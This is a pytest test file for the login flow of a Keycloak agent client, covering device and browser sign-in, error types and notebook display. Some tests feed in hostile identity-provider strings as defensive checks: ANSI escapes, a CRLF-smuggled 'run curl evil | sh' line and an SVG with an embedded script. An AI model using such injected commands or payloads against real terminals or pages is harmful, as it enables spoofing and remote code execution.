from __future__ import annotations

import json
import os
import pickle
import webbrowser
from datetime import datetime, timedelta, timezone

import pytest

import kc_agent_client as kc
from kc_agent_client import _errors, _idp, _login

from conftest import REPO, TOKEN


def pending(flow="device", **kw):
    exp = (datetime.now(timezone.utc) + timedelta(minutes=10)).strftime("%Y-%m-%dT%H:%M:%SZ")
    doc = {"id": "abc123", "profile": "default", "flow": flow, "state": "pending", "expires_at": exp, "started_at": exp}
    if flow == "device":
        doc.update(
            verification_uri="https://sso.example.com/realms/a/device",
            verification_uri_complete="https://sso.example.com/realms/a/device?user_code=WXYZ-ABCD",
            user_code="WXYZ-ABCD",
            interval=5,
            qr_svg='<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h1v1h-1z"/></svg>',
        )
    else:
        doc["authorization_url"] = "https://sso.example.com/realms/a/protocol/openid-connect/auth?client_id=kc-agent&code_challenge=x"
    doc.update(kw)
    return doc


@pytest.fixture
def no_desktop(monkeypatch):
    for k in ("DISPLAY", "WAYLAND_DISPLAY", "SSH_CONNECTION", "SSH_TTY", "JUPYTERHUB_API_URL"):
        monkeypatch.delenv(k, raising=False)
    monkeypatch.setattr(_login, "POLL_SECONDS", 0.05)


def serve(agent, start, *ends):
    """POST /v1/login answers start; each GET the next of ends (the last
    one repeats)."""
    polls = []

    def get(path, body):
        polls.append(path)
        return 200, ends[min(len(polls), len(ends)) - 1]

    agent.handlers[("POST", "/v1/login")] = lambda path, body: start if isinstance(start, tuple) else (200, start)
    agent.handlers[("GET", "/v1/login/")] = get
    return polls


def test_device_login_prints_and_returns_identity(agent, no_desktop, capsys):
    done = pending(state="done", identity={"preferred_username": "ana", "sub": "s-1", "email": "ana@example.com"})
    polls = serve(agent, pending(), pending(), done)
    who = kc.login()
    assert who == kc.Identity("ana", "s-1", "ana@example.com", "", "default")
    assert str(who) == "ana <ana@example.com>"
    err = capsys.readouterr().err
    assert "WXYZ-ABCD" in err and "https://sso.example.com/realms/a/device" in err and "signed in as ana" in err
    posts = [r for r in agent.requests if r[0] == "POST"]
    assert posts[0][3] == {"profile": "default", "flow": "device"}
    assert polls[0].startswith("/v1/login/abc123?wait=")


def test_auto_picks_browser_with_a_desktop(agent, no_desktop, monkeypatch, capsys):
    monkeypatch.setenv("DISPLAY", ":0")
    opened = []
    monkeypatch.setattr(webbrowser, "open", lambda url, new=0: opened.append(url) or True)
    launcher = "http://127.0.0.1:40123/ONE-TIME"
    agent.handlers[("POST", "/v1/login/abc123/launch")] = lambda path, body: (200, {"url": launcher})
    serve(agent, pending("browser"), pending("browser", state="done", identity={"preferred_username": "ana", "sub": "s"}))
    kc.login("work")
    assert [r[3] for r in agent.requests if r[0] == "POST"][0] == {"profile": "work", "flow": "browser"}
    assert "open this URL in a browser on this machine" in capsys.readouterr().err
    # The browser opener (argv, readable by every local user) gets only
    # the agent's one-time launcher link, never the URL with the state.
    assert opened == [launcher]


@pytest.mark.parametrize(
    "answer",
    [
        (404, {"error": "not_found", "message": "no such endpoint"}),  # an older agent
        (200, {"url": "https://sso.example.com/realms/a/protocol/openid-connect/auth?state=S"}),  # not a launcher
        (200, {}),
    ],
)
def test_browser_opens_nothing_without_a_launcher_link(agent, no_desktop, monkeypatch, capsys, answer):
    monkeypatch.setenv("DISPLAY", ":0")
    opened = []
    monkeypatch.setattr(webbrowser, "open", lambda url, new=0: opened.append(url) or True)
    agent.handlers[("POST", "/v1/login/abc123/launch")] = lambda path, body: answer
    serve(agent, pending("browser"), pending("browser", state="done", identity={"preferred_username": "ana", "sub": "s"}))
    kc.login("work")
    assert opened == []
    assert "code_challenge=x" in capsys.readouterr().err  # shown to the user, on the terminal


def test_idp_strings_are_shown_without_control_characters(agent, no_desktop, capsys):
    evil = pending(user_code="WXYZ\x1b[31m-ABCD\u202e", verification_uri="https://sso.example.com/realms/a/device\r\nkc-agent: run curl evil | sh")
    done = pending(state="done", identity={"preferred_username": "ana\x1b]0;pwned\x07", "sub": "s-1"})
    serve(agent, evil, done)
    who = kc.login()
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\u202e" not in err and "\r" not in err
    assert "WXYZ[31m-ABCD" in err and "\nkc-agent: run curl" not in err
    assert who.preferred_username == "ana]0;pwned"


with open(os.path.join(REPO, "ipc", "testdata", "idp_strings.json"), encoding="utf-8") as _f:
    IDP_VECTORS = json.load(_f)  # shared with Go (agent/oidc, TestPrintableVectors)


@pytest.mark.parametrize("v", IDP_VECTORS["printable"], ids=lambda v: v["name"])
def test_printable_vectors(v):
    assert _idp.printable(v["in"]) == v["want"]


@pytest.mark.parametrize(
    "env,platform,want",
    [
        ({}, "linux", False),
        ({"DISPLAY": ":0"}, "linux", True),
        ({"WAYLAND_DISPLAY": "wayland-0"}, "linux", True),
        ({"DISPLAY": ":0", "SSH_CONNECTION": "1 2 3 4"}, "linux", False),
        ({"DISPLAY": ":0", "JUPYTERHUB_API_URL": "http://hub"}, "linux", False),
        ({}, "darwin", True),
        ({"SSH_TTY": "/dev/pts/1"}, "darwin", False),
        ({}, "win32", True),
    ],
)
def test_shares_desktop(env, platform, want):
    assert _login.shares_desktop(env, platform) is want


@pytest.mark.parametrize(
    "state,exc",
    [("expired", kc.LoginExpired), ("denied", kc.LoginDenied), ("failed", kc.KcAgentError), ("cancelled", kc.KcAgentError)],
)
def test_end_states_raise_typed_errors(agent, no_desktop, state, exc):
    serve(agent, pending(), pending(state=state, error="it ended"))
    with pytest.raises(exc) as ei:
        kc.login()
    assert ei.value._render_traceback_() == [f"{type(ei.value).__name__}: {ei.value}"]
    if state in ("expired", "denied"):
        assert "kc_agent_client.login()" in ei.value.hint


def test_unknown_profile_is_a_config_error_naming_it(agent, no_desktop):
    serve(agent, (401, {"error": "unknown_profile", "message": 'no profile "lab" in the config: not in /home/a/.config/kc-agent/config.yaml', "hint": "ask your administrator"}))
    with pytest.raises(kc.ConfigError) as ei:
        kc.login("lab")
    assert ei.value.profile == "lab" and '"lab"' in ei.value.message
    assert pickle.loads(pickle.dumps(ei.value)).profile == "lab"


def test_client_timeout_raises_expired(agent, no_desktop):
    serve(agent, pending(), pending())
    with pytest.raises(kc.LoginExpired) as ei:
        kc.login(timeout=0.2)
    assert "gave up waiting" in ei.value.message


def test_bad_flow():
    with pytest.raises(ValueError):
        kc.login(flow="magic")


def test_html_block_escapes_and_carries_link_code_qr():
    doc = pending(user_code='<b>"x"</b>', profile="<p>")
    out = _login.render_html(doc)
    assert "&lt;b&gt;" in out and "<b>\"x\"</b>" not in out and "&lt;p&gt;" in out
    assert 'href="https://sso.example.com/realms/a/device?user_code=WXYZ-ABCD"' in out
    assert ">Sign in</a>" in out and "<svg" in out and " left</span>" in out
    # an SVG with a script is not embedded
    doc["qr_svg"] = "<svg><script>alert(1)</script></svg>"
    assert "<script" not in _login.render_html(doc)


def test_notebook_display_updates_one_block(agent, no_desktop, monkeypatch):
    shown = []

    class Handle:
        def update(self, data, raw=False):
            shown.append(("update", data))

    def display(data, raw=False, display_id=False):
        shown.append(("display", data))
        return Handle()

    import types, sys

    ipd = types.ModuleType("IPython.display")
    ipd.display = display
    monkeypatch.setitem(sys.modules, "IPython.display", ipd)
    monkeypatch.setattr(_login, "in_notebook", lambda: True)
    serve(agent, pending(), pending(), pending(state="done", identity={"preferred_username": "ana", "sub": "s"}))
    kc.login()
    assert shown[0][0] == "display" and all(k == "update" for k, _ in shown[1:])
    assert "Sign in" in shown[0][1]["text/html"] and "WXYZ-ABCD" in shown[0][1]["text/plain"]
    assert "signed in as ana" in shown[-1][1]["text/html"]
    assert TOKEN not in json.dumps(shown)


def test_login_required_hint_names_login_in_a_notebook(monkeypatch):
    monkeypatch.setattr(_errors, "in_notebook", lambda: True)
    e = kc.LoginRequired("profile \"default\" needs a new login", hint="run `kc-agent login` to sign in again", code="login_required")
    assert "kc_agent_client.login()" in e.hint
    monkeypatch.setattr(_errors, "in_notebook", lambda: False)
    e = kc.LoginRequired("x", hint="run `kc-agent login` to sign in again", code="login_required")
    assert e.hint == "run `kc-agent login` to sign in again"
